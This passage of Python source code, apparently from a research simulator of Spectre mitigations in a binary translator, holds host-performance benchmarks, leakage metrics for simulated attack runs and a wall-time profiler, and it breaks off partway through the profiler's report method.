    ``persist_hits > 0`` is the acceptance evidence that cross-process
    reuse actually happens; the wall pair shows what it buys.
    """
    from .attacks.harness import run_attack

    def _one() -> dict:
        with _gc_paused():
            start = time.perf_counter()
            outcome = run_attack(AttackVariant.SPECTRE_V4, secret=secret,
                                 interpreter="compiled",
                                 program=programs[AttackVariant.SPECTRE_V4],
                                 tcache_dir=tcache_dir)
            wall = time.perf_counter() - start
        codegen = outcome.run.codegen
        return {
            "wall_seconds": round(wall, 4),
            "codegen": {
                "compiles": codegen.compiles,
                "hits": codegen.hits,
                "persist_hits": codegen.persist_hits,
                "persist_stores": codegen.persist_stores,
                "bytes": codegen.bytes,
            },
        }

    cold = _one()
    warm = _one()
    return {
        "cold": cold,
        "warm": warm,
        "warm_speedup": (round(cold["wall_seconds"] / warm["wall_seconds"], 3)
                         if warm["wall_seconds"] else None),
    }


def measure_profiler_overhead(kernel: str = "gemm",
                              repeats: int = 3) -> dict:
    """Host cost of the tier-attribution profiler on one kernel.

    Times the same run bare and with a :class:`~repro.obs.HostProfiler`
    attached (best-of-``repeats`` each) and reports the relative
    overhead — the number docs/PERFORMANCE.md quotes.  Also asserts the
    no-Heisenberg contract's cheap half right here: the profiled run's
    simulated cycle count must equal the bare run's.
    """
    from .obs import HostProfiler
    from .security.policy import MitigationPolicy

    program = build_kernel_program(SMALL_SIZES[kernel]())
    policy = MitigationPolicy.GHOSTBUSTERS

    def _best(profiled: bool):
        best = None
        cycles = None
        with _gc_paused():
            for _ in range(max(1, repeats)):
                profiler = HostProfiler() if profiled else None
                start = time.perf_counter()
                result = DbtSystem(program, policy=policy,
                                   profiler=profiler).run()
                wall = time.perf_counter() - start
                if profiler is not None:
                    profiler.detach()
                cycles = result.cycles
                if best is None or wall < best:
                    best = wall
        return best or 0.0, cycles

    bare_wall, bare_cycles = _best(False)
    profiled_wall, profiled_cycles = _best(True)
    return {
        "kernel": kernel,
        "repeats": repeats,
        "bare_wall_seconds": round(bare_wall, 4),
        "profiled_wall_seconds": round(profiled_wall, 4),
        "overhead_percent": (round(100.0 * (profiled_wall / bare_wall - 1), 1)
                             if bare_wall else None),
        "cycles_identical": bare_cycles == profiled_cycles,
    }


def measure_kernels(kernels: Sequence[str],
                    interpreters: Sequence[str] = ("reference", "fast",
                                                   "compiled", "auto"),
                    ) -> List[dict]:
    """Per-(kernel, policy, interpreter) wall-time and throughput rows.

    The compiled rows run *cold* — no persistent cache — so they carry
    the full translation + codegen cost (the honest Amdahl number;
    docs/PERFORMANCE.md §2).  The ``auto`` rows run the compiled tier
    under profile-driven tier placement (``tier_mode="auto"``): blocks
    compile in the background only once their profile shows the compile
    will amortize, so small kernels must never regress below the fast
    interpreter."""
    rows: List[dict] = []
    for name in kernels:
        program = build_kernel_program(SMALL_SIZES[name]())
        for policy in ALL_POLICIES:
            for interpreter in interpreters:
                if interpreter == "auto":
                    wall, result = _timed_run(
                        program, policy, "compiled",
                        engine_config=DbtEngineConfig(tier_mode="auto"))
                else:
                    wall, result = _timed_run(program, policy, interpreter)
                rows.append({
                    "kernel": name,
                    "policy": policy.value,
                    "interpreter": interpreter,
                    "wall_seconds": round(wall, 4),
                    "guest_instructions": result.instructions,
                    "guest_cycles": result.cycles,
                    "guest_instructions_per_second":
                        round(result.instructions / wall) if wall else 0,
                })
    return rows


def measure_sweep_scaling(kernels: Sequence[str],
                          jobs_levels: Sequence[int] = (1, 4)) -> dict:
    """Figure-4 sweep wall-time at each ``--jobs`` level.

    No memo cache is used, so every level pays the full simulation cost
    and the comparison isolates the process-pool scaling.
    """
    workloads = [(name, build_kernel_program(SMALL_SIZES[name]()))
                 for name in kernels]
    walls: Dict[str, float] = {}
    for jobs in jobs_levels:
        start = time.perf_counter()
        sweep_comparisons(workloads, policies=ALL_POLICIES, jobs=jobs)
        walls[str(jobs)] = round(time.perf_counter() - start, 4)
    baseline = walls.get("1")
    best = min(walls.values()) if walls else 0.0
    return {
        "workloads": list(kernels),
        "policies": [policy.value for policy in ALL_POLICIES],
        "wall_seconds_by_jobs": walls,
        "parallel_speedup":
            round(baseline / best, 3) if baseline and best else None,
    }


def measure_batched_sweep(kernels: Sequence[str], repeats: int = 2) -> dict:
    """Batched multi-guest sweep over a shared translation pool vs the
    per-point cold path, on the quick E2 matrix (``kernels`` ×
    every policy).

    Three measurements, honestly separated:

    * ``per_point_cold`` — the unbatched serial path: every point builds
      a fresh system and redoes its own translation work;
    * ``batched_cold`` — the same points as co-hosted guests of one
      process.  Each (kernel, policy) point is its own pool shard, so
      this pass mostly *seeds* the pool (the Amdahl accounting: a batch
      of all-distinct points saves nothing by itself);
    * ``batched_warm`` — the same batch again over the now-warm pool,
      best of ``repeats``: every guest's translation/optimization/
      codegen work is served from the pool and only the marginal
      per-guest execution cost remains.  This is the steady state of
      the serve fleet's warm workers, which re-run the same job shapes
      for their whole lifetime.

    Rows from every pass must be byte-identical to the per-point path —
    ``rows_identical`` is gated in ``benchmarks/bench_host_perf.py``
    alongside the warm-ratio ceiling.
    """
    workloads = [(name, build_kernel_program(SMALL_SIZES[name]()))
                 for name in kernels]
    with _gc_paused():
        start = time.perf_counter()
        cold_rows = comparison_json(sweep_comparisons(workloads))
        per_point_cold = time.perf_counter() - start
    pool = TranslationPool()
    with _gc_paused():
        start = time.perf_counter()
        rows = comparison_json(sweep_comparisons(workloads, batched=True,
                                                 pool=pool))
        batched_cold = time.perf_counter() - start
    rows_identical = rows == cold_rows
    warm_walls = []
    for _ in range(max(1, repeats)):
        with _gc_paused():
            start = time.perf_counter()
            rows = comparison_json(sweep_comparisons(workloads, batched=True,
                                                     pool=pool))
            warm_walls.append(time.perf_counter() - start)
        rows_identical = rows_identical and rows == cold_rows
    batched_warm = min(warm_walls)
    return {
        "workloads": list(kernels),
        "policies": [policy.value for policy in ALL_POLICIES],
        "per_point_cold_wall_seconds": round(per_point_cold, 4),
        "batched_cold_wall_seconds": round(batched_cold, 4),
        "batched_warm_wall_seconds": round(batched_warm, 4),
        "warm_ratio": (round(batched_warm / per_point_cold, 3)
                       if per_point_cold else None),
        "rows_identical": rows_identical,
        "pool": {
            "guests": pool.stats.guests,
            "installs": pool.stats.installs,
            "hits": pool.stats.hits,
        },
    }


def measure_timing_model(secret: bytes, programs=None,
                         repeats: int = 3,
                         microbench_ops: int = 20000) -> dict:
    """Vectorized lane-batched cache timing engine vs the scalar model.

    Two comparisons, both over work the engine actually batches:

    * ``e1_matrix`` — the full E1 grid (2 PoCs × every policy) co-hosted
      as guests of one :class:`~repro.platform.multiguest.MultiGuestHost`
      over a pre-warmed translation pool, once per timing engine,
      best-of-``repeats`` each.  The warm pool isolates the cache-timing
      difference from translation work — this is the serve fleet's
      steady state, where batched jobs default to the vector engine.
      ``records_identical`` confirms per-guest observables (cycles,
      instructions, output, cache stats) matched across engines — the
      cheap in-report echo of the lane-differential test gate;
    * ``cache_microbench`` — the raw models head-to-head on one
      deterministic mixed-size address stream per lane (8 lanes), no
      simulator around them: scalar ``SetAssociativeCache`` instances
      vs ``LaneView`` lanes drained through the vector engine.

    ``benchmarks/bench_host_perf.py`` gates the E1 comparison: the
    vector engine must not lose to the scalar engine on the batch it
    exists to accelerate.
    """
    from .mem.cache import CacheConfig, SetAssociativeCache
    from .mem.vector import LaneCacheModel
    from .platform.multiguest import MultiGuestHost

    if programs is None:
        programs = {variant: build_attack_program(variant, secret)
                    for variant in AttackVariant}
    pool = TranslationPool()

    def _batch(timing: str):
        host = MultiGuestHost(pool=pool, timing=timing)
        for policy in ALL_POLICIES:
            for variant in AttackVariant:
                host.add_guest(programs[variant], policy=policy,
                               interpreter="compiled")
        with _gc_paused():
            start = time.perf_counter()
            results = host.run_all()
            wall = time.perf_counter() - start
        records = [(result.cycles, result.instructions, result.output,
                    result.cache.hits, result.cache.misses,
                    result.cache.evictions, result.cache.flushes)
                   for result in results]
        return wall, records

    _batch("scalar")  # warm the pool outside the timed region
    walls = {"scalar": [], "vector": []}
    records = {}
    identical = True
    for _ in range(max(1, repeats)):
        for timing in ("scalar", "vector"):
            wall, recs = _batch(timing)
            walls[timing].append(wall)
            if timing in records:
                identical = identical and recs == records[timing]
            records[timing] = recs
    identical = identical and records["scalar"] == records["vector"]
    scalar_wall = min(walls["scalar"])
    vector_wall = min(walls["vector"])

    # Raw model microbench: one deterministic stream, replayed per lane.
    lanes = 8
    config = CacheConfig()
    seed = 0x2545F491
    stream = []
    for _ in range(microbench_ops):
        seed = (seed * 1103515245 + 12345) & 0x7FFFFFFF
        stream.append(((seed >> 7) & 0x3FFFF, (1, 2, 4, 8, 33)[seed % 5]))

    with _gc_paused():
        start = time.perf_counter()
        scalars = [SetAssociativeCache(config) for _ in range(lanes)]
        for cache in scalars:
            access = cache.access
            for address, size in stream:
                access(address, size)
        scalar_micro = time.perf_counter() - start
        start = time.perf_counter()
        model = LaneCacheModel(config)
        views = [model.add_lane() for _ in range(lanes)]
        for view in views:
            access = view.access
            for address, size in stream:
                access(address, size)
        model.drain()
        vector_micro = time.perf_counter() - start
    micro_identical = all(
        (view.stats.hits, view.stats.misses, view.stats.evictions)
        == (cache.stats.hits, cache.stats.misses, cache.stats.evictions)
        for view, cache in zip(views, scalars))
    ops = lanes * microbench_ops
    return {
        "e1_matrix": {
            "repeats": repeats,
            "guests": len(ALL_POLICIES) * len(AttackVariant),
            "scalar_batched_wall_seconds": round(scalar_wall, 4),
            "vector_batched_wall_seconds": round(vector_wall, 4),
            "vector_speedup": (round(scalar_wall / vector_wall, 3)
                               if vector_wall else None),
            "records_identical": identical,
            "lane": dict(sorted(pool.lane_counters.items())),
        },
        "cache_microbench": {
            "lanes": lanes,
            "ops_per_lane": microbench_ops,
            "scalar_wall_seconds": round(scalar_micro, 4),
            "vector_wall_seconds": round(vector_micro, 4),
            "scalar_ops_per_second":
                round(ops / scalar_micro) if scalar_micro else 0,
            "vector_ops_per_second":
                round(ops / vector_micro) if vector_micro else 0,
            "vector_speedup": (round(scalar_micro / vector_micro, 3)
                               if vector_micro else None),
            "stats_identical": micro_identical,
        },
    }


def run_bench_host(quick: bool = False,
                   secret: Optional[bytes] = None,
                   kernels: Sequence[str] = DEFAULT_KERNELS,
                   jobs_levels: Sequence[int] = (1, 4),
                   skip_sweep: bool = False,
                   tcache_dir=None) -> dict:
    """Run the full host-perf baseline and return the report dict.

    ``tcache_dir`` hosts the compiled tier's persistent codegen cache
    for the E1 measurements; the default is a temporary directory, so
    every invocation starts cold and the warm numbers come from the
    best-of-``repeats`` loop and the explicit cold/warm section.
    """
    import os
    import tempfile

    if secret is None:
        secret = QUICK_SECRET if quick else FULL_SECRET
    report = {
        "schema": SCHEMA,
        "quick": quick,
        "host": {
            "python": sys.version.split()[0],
            "implementation": host_platform.python_implementation(),
            "machine": host_platform.machine(),
            "cpu_count": os.cpu_count(),
        },
        "timestamp": time.strftime("%Y-%m-%dT%H:%M:%S%z"),
    }

    repeats = 1 if quick else 3
    #: The compiled tier is always measured best-of-2+ so at least one
    #: repeat runs warm against the persistent cache.
    compiled_repeats = max(2, repeats)
    programs = {variant: build_attack_program(variant, secret)
                for variant in AttackVariant}
    tcache_ctx = (tempfile.TemporaryDirectory(prefix="repro-bench-tcache-")
                  if tcache_dir is None else None)
    tdir = Path(tcache_ctx.name) if tcache_ctx is not None else Path(tcache_dir)
    try:
        e1: Dict[str, object] = {"secret_length": len(secret),
                                 "repeats": repeats}
        for interpreter in ("reference", "fast"):
            e1[interpreter] = measure_attack_matrix(
                secret, interpreter, programs=programs,
                repeats=1 if interpreter == "reference" else repeats)
        e1["fast_chained"] = measure_attack_matrix(
            secret, "fast", engine_config=DbtEngineConfig(chain=True),
            programs=programs, repeats=repeats)
        e1["compiled"] = measure_attack_matrix(
            secret, "compiled", programs=programs,
            repeats=compiled_repeats, tcache_dir=tdir / "e1")
        e1["compiled_chained"] = measure_attack_matrix(
            secret, "compiled", engine_config=DbtEngineConfig(chain=True),
            programs=programs, repeats=compiled_repeats,
            tcache_dir=tdir / "e1")
        e1["trace_chained"] = measure_attack_matrix(
            secret, "trace", engine_config=DbtEngineConfig(chain=True),
            programs=programs, repeats=compiled_repeats,
            tcache_dir=tdir / "e1")
        reference_wall = e1["reference"]["wall_seconds"]
        fast_wall = e1["fast"]["wall_seconds"]
        chained_wall = e1["fast_chained"]["wall_seconds"]
        compiled_wall = e1["compiled"]["wall_seconds"]
        compiled_chained_wall = e1["compiled_chained"]["wall_seconds"]
        trace_wall = e1["trace_chained"]["wall_seconds"]
        e1["fast_path_speedup"] = (
            round(reference_wall / fast_wall, 3) if fast_wall else None)
        #: Chained vs unchained dispatch, both on the fast path.
        e1["chain_speedup"] = (
            round(fast_wall / chained_wall, 3) if chained_wall else None)
        #: Tier-3 vs the seed loop — the headline host-perf number.
        e1["compiled_speedup"] = (
            round(reference_wall / compiled_wall, 3) if compiled_wall
            else None)
        #: Tier-4 megablock traces vs chained tier-3, both warm.
        e1["trace_speedup"] = (
            round(compiled_chained_wall / trace_wall, 3) if trace_wall
            else None)
        report["e1_attack_matrix"] = e1

        report["tcache_persistence"] = measure_tcache_persistence(
            secret, programs, tdir / "persistence")

        kernel_names = list(kernels)[:1] if quick else list(kernels)
        report["kernels"] = measure_kernels(kernel_names)

        report["profiler_overhead"] = measure_profiler_overhead(
            kernel_names[0], repeats=1 if quick else 3)

        if not skip_sweep:
            sweep_kernels = kernel_names if quick else list(SMALL_SIZES)[:4]
            report["figure4_sweep"] = measure_sweep_scaling(
                sweep_kernels, jobs_levels)

        report["batched_sweep"] = measure_batched_sweep(
            list(kernels), repeats=1 if quick else 3)

        report["timing_model"] = measure_timing_model(
            secret, programs=programs, repeats=1 if quick else 5,
            microbench_ops=4000 if quick else 20000)
    finally:
        if tcache_ctx is not None:
            tcache_ctx.cleanup()
    return report


def format_report(report: dict) -> str:
    """Human-readable summary of a bench-host report."""
    lines = ["host-perf baseline (%s, python %s, %s cpus)" % (
        report["host"]["machine"], report["host"]["python"],
        report["host"]["cpu_count"])]
    e1 = report.get("e1_attack_matrix")
    if e1:
        lines.append(
            "E1 attack matrix : reference %.2fs -> fast %.2fs "
            "(speedup %.2fx, %s guest instr/s)" % (
                e1["reference"]["wall_seconds"], e1["fast"]["wall_seconds"],
                e1["fast_path_speedup"] or 0.0,
                "{:,}".format(e1["fast"]["guest_instructions_per_second"])))
        chained = e1.get("fast_chained")
        if chained:
            lines.append(
                "  + chaining    : fast %.2fs -> chained %.2fs "
                "(speedup %.2fx, %s guest instr/s)" % (
                    e1["fast"]["wall_seconds"], chained["wall_seconds"],
                    e1.get("chain_speedup") or 0.0,
                    "{:,}".format(chained["guest_instructions_per_second"])))
        compiled = e1.get("compiled")
        if compiled:
            lines.append(
                "  + tier-3      : reference %.2fs -> compiled %.2fs "
                "(speedup %.2fx, %s guest instr/s)" % (
                    e1["reference"]["wall_seconds"],
                    compiled["wall_seconds"],
                    e1.get("compiled_speedup") or 0.0,
                    "{:,}".format(compiled["guest_instructions_per_second"])))
            counters = compiled.get("codegen")
            if counters:
                lines.append(
                    "    codegen     : %d compiles, %d persist hits / "
                    "%d stores (last repeat)" % (
                        counters["compiles"], counters["persist_hits"],
                        counters["persist_stores"]))
        traced = e1.get("trace_chained")
        if traced:
            lines.append(
                "  + tier-4      : chained compiled %.2fs -> traced %.2fs "
                "(speedup %.2fx, %s guest instr/s)" % (
                    e1["compiled_chained"]["wall_seconds"],
                    traced["wall_seconds"],
                    e1.get("trace_speedup") or 0.0,
                    "{:,}".format(traced["guest_instructions_per_second"])))
            counters = traced.get("trace")
            if counters:
                lines.append(
                    "    megablocks  : %d recorded, %d compiled "
                    "(%d persisted), %d dispatches over %d blocks, "
                    "%d demotions (last repeat)" % (
                        counters["recorded"], counters["compiled"],
                        counters["persist_hits"], counters["dispatches"],
                        counters["blocks"], counters["demotions"]))
    tcache = report.get("tcache_persistence")
    if tcache:
        lines.append(
            "tcache           : cold %.2fs (%d compiles) -> warm %.2fs "
            "(%d persist hits, speedup %sx)" % (
                tcache["cold"]["wall_seconds"],
                tcache["cold"]["codegen"]["compiles"],
                tcache["warm"]["wall_seconds"],
                tcache["warm"]["codegen"]["persist_hits"],
                tcache.get("warm_speedup")))
    for row in report.get("kernels", ()):
        lines.append(
            "%-12s %-14s %-9s %7.2fs  %12s instr/s" % (
                row["kernel"], row["policy"], row["interpreter"],
                row["wall_seconds"],
                "{:,}".format(row["guest_instructions_per_second"])))
    overhead = report.get("profiler_overhead")
    if overhead:
        lines.append(
            "profiler         : %s bare %.2fs -> profiled %.2fs "
            "(+%s%%, cycles %s)" % (
                overhead["kernel"], overhead["bare_wall_seconds"],
                overhead["profiled_wall_seconds"],
                overhead["overhead_percent"],
                "identical" if overhead["cycles_identical"]
                else "DIVERGED"))
    sweep = report.get("figure4_sweep")
    if sweep:
        per_jobs = "  ".join(
            "--jobs %s: %.2fs" % (jobs, wall)
            for jobs, wall in sorted(sweep["wall_seconds_by_jobs"].items(),
                                     key=lambda item: int(item[0])))
        lines.append("figure-4 sweep   : %s (speedup %s)" % (
            per_jobs, sweep["parallel_speedup"]))
    batched = report.get("batched_sweep")
    if batched:
        lines.append(
            "batched sweep    : per-point cold %.2fs -> batched cold %.2fs "
            "-> warm pool %.2fs (%.2fx cold, rows %s, %d pool hits)" % (
                batched["per_point_cold_wall_seconds"],
                batched["batched_cold_wall_seconds"],
                batched["batched_warm_wall_seconds"],
                batched["warm_ratio"],
                "identical" if batched["rows_identical"] else "DIVERGED",
                batched["pool"]["hits"]))
    timing = report.get("timing_model")
    if timing:
        e1_row = timing["e1_matrix"]
        micro = timing["cache_microbench"]
        lines.append(
            "timing model     : E1 scalar batched %.2fs -> vector %.2fs "
            "(%.2fx, records %s); cache microbench %s -> %s ops/s "
            "(%.2fx)" % (
                e1_row["scalar_batched_wall_seconds"],
                e1_row["vector_batched_wall_seconds"],
                e1_row["vector_speedup"] or 0.0,
                "identical" if e1_row["records_identical"] else "DIVERGED",
                "{:,}".format(micro["scalar_ops_per_second"]),
                "{:,}".format(micro["vector_ops_per_second"]),
                micro["vector_speedup"] or 0.0))
    return "\n".join(lines)


def write_report(report: dict, path) -> Path:
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(report, indent=2, sort_keys=True) + "\n")
    return path
