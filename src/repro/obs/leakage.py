"""Leakage meters: per-attack telemetry from MCB/rollback/cflush events.

The paper's Figure-4-shaped claims — fine-grained mitigation squashes
the leak cheaply, fences pay for it in cycles — were previously spread
across ad-hoc harness prints.  This module turns them into queryable
metrics: one :class:`LeakageReport` per (attack, policy) run, computed
from the observer counters the platform already emits:

* ``bytes_recovered`` / ``accuracy`` / ``leaked`` — the architectural
  outcome (how much of the planted secret the PoC read back);
* ``rollbacks`` and ``squashed_speculative_loads`` — how many
  speculative runs the MCB aborted and how many in-flight speculative
  loads died with them (the mitigation *working*);
* ``wasted_speculative_cycles`` — the aborted-run + rollback-penalty
  cycles, i.e. what squashing cost;
* ``speculative_miss_probes`` — speculatively issued loads that missed
  the cache: the micro-architectural transmitter the attack actually
  reads (misses survive rollback — that *is* Spectre);
* ``cflushes`` — the attacker's explicit cache-line evictions (probe
  setup traffic).

Reports are plain picklable dataclasses so the parallel attack matrix
can compute them inside pool workers and ship them home with the
:class:`~repro.attacks.harness.AttackResult`.  Surfaced by
``repro attack --leakage``, the ``repro stats --attack`` leakage table,
and the chaos matrix's ``leak`` column.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List, Sequence

from .registry import MetricsRegistry


@dataclass
class LeakageReport:
    """Leakage meters of one attack run under one policy."""

    variant: str
    policy: str
    secret_length: int
    bytes_recovered: int
    accuracy: float
    leaked: bool
    rollbacks: int
    squashed_speculative_loads: int
    wasted_speculative_cycles: int
    speculative_miss_probes: int
    cflushes: int
    cycles: int

    def describe(self) -> str:
        return ("rollbacks=%d squashed_spec_loads=%d "
                "wasted_spec_cycles=%d spec_miss_probes=%d cflush=%d"
                % (self.rollbacks, self.squashed_speculative_loads,
                   self.wasted_speculative_cycles,
                   self.speculative_miss_probes, self.cflushes))


def measure_leakage(registry: MetricsRegistry, attack_result) -> LeakageReport:
    """Fold one attack run's observer counters into a report.

    ``attack_result`` is an :class:`~repro.attacks.harness.AttackResult`
    whose run executed with the observer owning ``registry`` attached.
    """
    value = registry.value
    return LeakageReport(
        variant=attack_result.variant.value,
        policy=attack_result.policy.value,
        secret_length=len(attack_result.secret),
        bytes_recovered=attack_result.bytes_recovered,
        accuracy=attack_result.accuracy,
        leaked=attack_result.leaked,
        rollbacks=int(value("mcb.rollbacks_total")),
        squashed_speculative_loads=int(
            value("mcb.squashed_speculative_loads_total")),
        wasted_speculative_cycles=int(value("mcb.rollback_cycles_total")),
        speculative_miss_probes=int(
            value("mem.speculative_load_misses_total")),
        cflushes=int(value("mem.cflush_total")),
        cycles=attack_result.run.cycles,
    )


def recovered_prefix(output: bytes, secret: bytes) -> int:
    """Bytes of ``secret`` recovered at the head of ``output`` —
    the chaos matrix's leak meter for runs scored outside the attack
    harness."""
    return sum(1 for expected, actual in zip(secret, output)
               if expected == actual)


def leakage_table(reports: Sequence[LeakageReport]) -> str:
    """Render reports as the ``repro stats --attack`` leakage table."""
    if not reports:
        return "(no leakage reports)"
    header = ("%-20s %10s %9s %6s %9s %13s %11s %8s" % (
        "policy", "recovered", "accuracy", "rbks", "squashed",
        "wasted cyc", "spec-miss", "cflush"))
    lines: List[str] = [header, "-" * len(header)]
    for report in reports:
        lines.append("%-20s %6d/%-3d %8.0f%% %6d %9d %13d %11d %8d" % (
            report.policy, report.bytes_recovered, report.secret_length,
            100.0 * report.accuracy, report.rollbacks,
            report.squashed_speculative_loads,
            report.wasted_speculative_cycles,
            report.speculative_miss_probes, report.cflushes))
    lines.append("")
    lines.append("squashed = speculative loads killed by MCB rollbacks; "
                 "wasted cyc = aborted speculative runs + penalty; "
                 "spec-miss = speculatively issued loads that missed the "
                 "cache (the covert-channel transmitter).")
    return "\n".join(lines)
