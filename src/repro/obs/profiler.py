"""Host-time profiler with per-tier attribution — the ``repro profile``
backend and the input tier-4 promote/demote decisions need.

Everything else in ``repro.obs`` measures *simulated* time (cycles); a
DBT's engineering questions are about *host* time: where do the
wall-clock seconds of a run actually go, and for which blocks does the
tier-3 compile cost amortize?  :class:`HostProfiler` answers both:

* **Phase attribution** — wall time is billed exclusively (innermost
  wins) to a fixed phase vocabulary: ``translation`` (first-pass
  translate), ``scheduling`` (optimize + conflict retranslation),
  ``codegen`` (install-time lowering + tier-3 compilation),
  ``reference-interp`` / ``fast-interp`` / ``compiled-exec`` (block
  execution, split by the tier the block actually ran on),
  ``chain-dispatch`` (the chained dispatcher, including whole fused
  chains), ``supervisor`` (guarded execution), ``tcache-io``
  (persistent codegen-cache load/store), and ``other`` (the engine
  loop's glue).
* **Per-block hotness** — executions and wall seconds per
  ``(guest entry, block kind, tier)``, plus the per-block codegen cost,
  feeding the **compile-cost amortization table**
  (:func:`amortization_report`): compile ms vs. saved ms per block,
  with a per-workload verdict ("fast" or "compiled").

No-Heisenberg contract: the profiler attaches by *wrapping bound
methods as instance attributes* on one constructed system — the
disabled path (no profiler) has **zero** new branches anywhere; the
seed code is untouched.  The profiler never reads or writes
``core.cycle``, so even the enabled path is bit-identical in everything
architectural and in simulated time (gated by
``tests/obs/test_profiler.py``); only host wall time changes, and that
overhead is measured in docs/PERFORMANCE.md.

Caveat: with block chaining enabled and no observer attached, the fused
fast path executes whole chains inside one core call, so their time is
billed to ``chain-dispatch`` without per-block rows.  Profile with
chaining off (the default of ``repro profile``) when per-block hotness
matters.
"""

from __future__ import annotations

import json
import time
from typing import Any, Callable, Dict, List, Optional, Tuple

PHASE_TRANSLATION = "translation"
PHASE_SCHEDULING = "scheduling"
PHASE_CODEGEN = "codegen"
PHASE_REFERENCE = "reference-interp"
PHASE_FAST = "fast-interp"
PHASE_COMPILED = "compiled-exec"
PHASE_CHAIN = "chain-dispatch"
PHASE_SUPERVISOR = "supervisor"
PHASE_TCACHE = "tcache-io"
PHASE_OTHER = "other"

ALL_PHASES = (
    PHASE_TRANSLATION, PHASE_SCHEDULING, PHASE_CODEGEN, PHASE_REFERENCE,
    PHASE_FAST, PHASE_COMPILED, PHASE_CHAIN, PHASE_SUPERVISOR,
    PHASE_TCACHE, PHASE_OTHER,
)

PROFILE_SCHEMA = "repro.profile/1"


class _PhaseStat:
    __slots__ = ("calls", "seconds")

    def __init__(self) -> None:
        self.calls = 0
        self.seconds = 0.0


class _BlockProfile:
    __slots__ = ("entry", "kind", "tier", "executions", "seconds")

    def __init__(self, entry: int, kind: str, tier: str) -> None:
        self.entry = entry
        self.kind = kind
        self.tier = tier
        self.executions = 0
        self.seconds = 0.0


class HostProfiler:
    """Wall-time profiler for one :class:`~repro.platform.system.DbtSystem`.

    Usage::

        profiler = HostProfiler()
        system = DbtSystem(program, ..., profiler=profiler)
        result = system.run()
        report = profiler.report()

    Attach wraps host-side entry points (``system.run``,
    ``engine._translate_first_pass``, ``engine.optimize``,
    ``engine.retranslate_without_memory_speculation``,
    ``engine.cache.finalizer``, ``core.execute_block``,
    ``chain.dispatch``, ``supervisor.execute``, ``tcache.load/store``)
    with closures installed as *instance attributes*; :meth:`detach`
    restores every one.  Exclusive billing rides an explicit phase
    stack: time between profiler events is billed to the innermost open
    phase, the root being ``other``.
    """

    def __init__(self, clock: Callable[[], float] = time.perf_counter):
        self.clock = clock
        self.phases: Dict[str, _PhaseStat] = {
            name: _PhaseStat() for name in ALL_PHASES}
        #: (entry, kind, tier) -> _BlockProfile
        self.blocks: Dict[Tuple[int, str, str], _BlockProfile] = {}
        #: (entry, kind) -> install-time codegen seconds (lowering +
        #: tier-3 compilation, recovery variant included).
        self.codegen_seconds: Dict[Tuple[int, str], float] = {}
        self.runs = 0
        self._stack: List[str] = [PHASE_OTHER]
        self._mark: Optional[float] = None
        self._attached: List[Tuple[object, str, object, bool]] = []
        self.system = None

    # ------------------------------------------------------------------
    # Exclusive-time accounting.
    # ------------------------------------------------------------------

    def _bill(self, now: float) -> None:
        if self._mark is not None:
            self.phases[self._stack[-1]].seconds += now - self._mark
        self._mark = now

    def _enter(self, phase: str) -> None:
        self._bill(self.clock())
        stat = self.phases[phase]
        stat.calls += 1
        self._stack.append(phase)

    def _exit(self) -> None:
        self._bill(self.clock())
        self._stack.pop()

    # ------------------------------------------------------------------
    # Attach / detach.
    # ------------------------------------------------------------------

    def _wrap(self, obj: object, name: str, wrapped: object) -> None:
        was_instance = name in getattr(obj, "__dict__", {})
        self._attached.append((obj, name, getattr(obj, name), was_instance))
        setattr(obj, name, wrapped)

    def attach(self, system) -> None:
        """Instrument ``system``; call before ``system.run()``."""
        if self.system is not None:
            raise RuntimeError("profiler is already attached")
        self.system = system
        engine = system.engine
        core = system.core

        original_run = system.run

        def run():
            self._mark = self.clock()
            self._stack = [PHASE_OTHER]
            self.runs += 1
            try:
                return original_run()
            finally:
                self._bill(self.clock())
                self._mark = None

        self._wrap(system, "run", run)

        self._wrap_phase(engine, "_translate_first_pass", PHASE_TRANSLATION)
        self._wrap_phase(engine, "optimize", PHASE_SCHEDULING)
        self._wrap_phase(engine, "retranslate_without_memory_speculation",
                         PHASE_SCHEDULING)

        finalizer = engine.cache.finalizer
        if finalizer is not None:
            def profiled_finalizer(block):
                self._enter(PHASE_CODEGEN)
                start = self._mark
                try:
                    return finalizer(block)
                finally:
                    self._exit()
                    key = (block.guest_entry, block.kind)
                    self.codegen_seconds[key] = (
                        self.codegen_seconds.get(key, 0.0)
                        + (self._mark - start))

            self._wrap(engine.cache, "finalizer", profiled_finalizer)

        original_execute = core.execute_block
        # The tier split needs the finalized form's compiled slot; the
        # import is deferred so repro.obs keeps importing before
        # repro.vliw in cold interpreters.
        from ..vliw.fastpath import finalize_block

        def execute_block(block):
            if not core.use_fast_path:
                phase = PHASE_REFERENCE
            elif core.use_compiled and \
                    finalize_block(block, core.config).compiled is not None:
                phase = PHASE_COMPILED
            else:
                phase = PHASE_FAST
            self._enter(phase)
            start = self._mark
            try:
                return original_execute(block)
            finally:
                self._exit()
                key = (block.guest_entry, block.kind, phase)
                profile = self.blocks.get(key)
                if profile is None:
                    profile = self.blocks[key] = _BlockProfile(
                        block.guest_entry, block.kind, phase)
                profile.executions += 1
                profile.seconds += self._mark - start

        self._wrap(core, "execute_block", execute_block)

        if system.chain is not None:
            self._wrap_phase(system.chain, "dispatch", PHASE_CHAIN)
        if system.supervisor is not None:
            self._wrap_phase(system.supervisor, "execute", PHASE_SUPERVISOR)
        if system.tcache is not None:
            self._wrap_phase(system.tcache, "load", PHASE_TCACHE)
            self._wrap_phase(system.tcache, "store", PHASE_TCACHE)

    def _wrap_phase(self, obj: object, name: str, phase: str) -> None:
        original = getattr(obj, name)

        def wrapped(*args, **kwargs):
            self._enter(phase)
            try:
                return original(*args, **kwargs)
            finally:
                self._exit()

        self._wrap(obj, name, wrapped)

    def detach(self) -> None:
        """Restore every wrapped entry point (idempotent)."""
        for obj, name, original, was_instance in reversed(self._attached):
            if was_instance:
                setattr(obj, name, original)
            else:
                try:
                    delattr(obj, name)
                except AttributeError:
                    pass
        self._attached = []
        self.system = None

    # ------------------------------------------------------------------
    # Reporting.
    # ------------------------------------------------------------------

    @property
    def total_seconds(self) -> float:
        return sum(stat.seconds for stat in self.phases.values())

    def report(self, meta: Optional[Dict[str, Any]] = None) -> dict:
        """The profile as a JSON-serializable report document."""
        blocks = sorted(self.blocks.values(),
                        key=lambda b: (-b.seconds, b.entry, b.tier))
        return {
            "schema": PROFILE_SCHEMA,
            "meta": dict(meta or {}),
            "runs": self.runs,
            "total_seconds": self.total_seconds,
            "phases": {
